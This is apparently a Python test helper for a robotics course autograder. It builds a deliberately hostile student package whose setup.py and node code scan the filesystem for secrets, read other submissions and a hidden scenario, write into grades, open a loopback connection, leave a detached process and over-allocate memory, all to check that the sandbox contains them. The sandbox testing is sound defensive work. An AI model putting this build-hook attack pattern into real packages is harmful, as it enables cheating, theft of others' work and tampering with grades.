"""A hand-in that attacks the grader: its setup.py (run by colcon) and its node try to
read the other submissions and the hidden scenario (by their paths, and by searching the
filesystem), write into the grades and another student's files, reach a listener on the
host's loopback, leave a process running in a session of its own, and allocate far more
memory than allowed. Each stage writes what it achieved as one JSON line; the node then
fails on a write beside its own installed code (read-only in the sandbox)."""

from __future__ import annotations

import json
from pathlib import Path

from grading_class import copy_package, patch

REPORT_MARK = "HOSTILE-REPORT "

ATTACK = (
    r'''
import json as _json, os as _os, socket as _socket, subprocess as _subprocess, sys as _sys
import time as _time

def _attack(stage, targets):
    said = {"stage": stage, "found": [], "read": [], "wrote": [], "connected": None}
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin",
            "/sbin", "/etc", "/opt", _sys.prefix, _sys.base_prefix}
    ends = _time.monotonic() + 20
    own = tuple(targets["own"])  # its own files hold the secrets it looks for
    for root, dirs, files in _os.walk("/"):
        dirs[:] = [d for d in dirs if _os.path.join(root, d) not in skip]
        if root.startswith(own):
            dirs[:] = []
            continue
        if _time.monotonic() > ends:
            break
        for name in files:
            path = _os.path.join(root, name)
            if name.endswith((".py", ".yaml", ".csv", ".html")):
                try:
                    with open(path, errors="replace") as handle:
                        text = handle.read(200000)
                except OSError:
                    continue
                if any(secret in text for secret in targets["secrets"]):
                    said["found"].append(path)
    for path in targets["read"]:
        try:
            with open(path) as handle:
                handle.read()
            said["read"].append(path)
        except OSError:
            pass
    for path in targets["write"]:
        try:
            with open(path, "a") as handle:
                handle.write("hacked")
            said["wrote"].append(path)
        except OSError:
            pass
    try:
        _socket.create_connection(("127.0.0.1", targets["port"]), timeout=2).close()
        said["connected"] = True
    except OSError as err:
        said["connected"] = type(err).__name__
    try:
        _subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(600)",
                           targets["leftover"]], start_new_session=True,
                          stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                          stderr=_subprocess.DEVNULL)
        said["left"] = True
    except OSError as err:
        said["left"] = type(err).__name__
    try:
        block = bytearray(targets["alloc_mb"] * 1024 * 1024)
        said["alloc"] = len(block)
        del block
    except MemoryError:
        said["alloc"] = "MemoryError"
    print("'''
    + REPORT_MARK
    + r"""" + _json.dumps(said), file=_sys.stderr, flush=True)
    return said
"""
)


def hostile_package(folder: Path, targets: dict[str, object]) -> Path:
    """The reference package with the attack in setup.py and at the node's start."""
    copy_package(folder)
    attack = ATTACK + f"\n_TARGETS = _json.loads({json.dumps(json.dumps(targets))})\n"
    setup = folder / "setup.py"
    setup.write_text(
        attack
        + "_said = _attack('build', _TARGETS)\n"
        + "try:  # where colcon runs it to build (its source folder is read-only)\n"
        + "    with open(_os.path.join(_os.getcwd(), 'hostile-build.json'), 'a') as _out:\n"
        + "        _out.write(_json.dumps(_said) + '\\n')\n"
        + "except OSError:\n"
        + "    pass\n"
        + setup.read_text()
    )
    node = folder / "fossbot_lidar_processing" / "lidar_node.py"
    patch(
        node,
        "def main(args: list[str] | None = None) -> int:",
        attack
        + "\n\ndef main(args: list[str] | None = None) -> int:\n"
        + "    _attack('node', _TARGETS)\n"
        + "    with open(_os.path.join(_os.path.dirname(__file__), 'hostile.log'), 'w'):\n"
        + "        pass  # beside its installed code: read-only in the sandbox\n"
        + "    return _main(args)\n\n\n"
        + "def _main(args: list[str] | None = None) -> int:",
    )
    return folder


def reports(text: str, stage: str) -> list[dict[str, object]]:
    """The attack's reports of `stage` found in `text`."""
    found = []
    for line in text.splitlines():
        if REPORT_MARK in line:
            said = json.loads(line.split(REPORT_MARK, 1)[1])
            if said.get("stage") == stage:
                found.append(said)
    return found
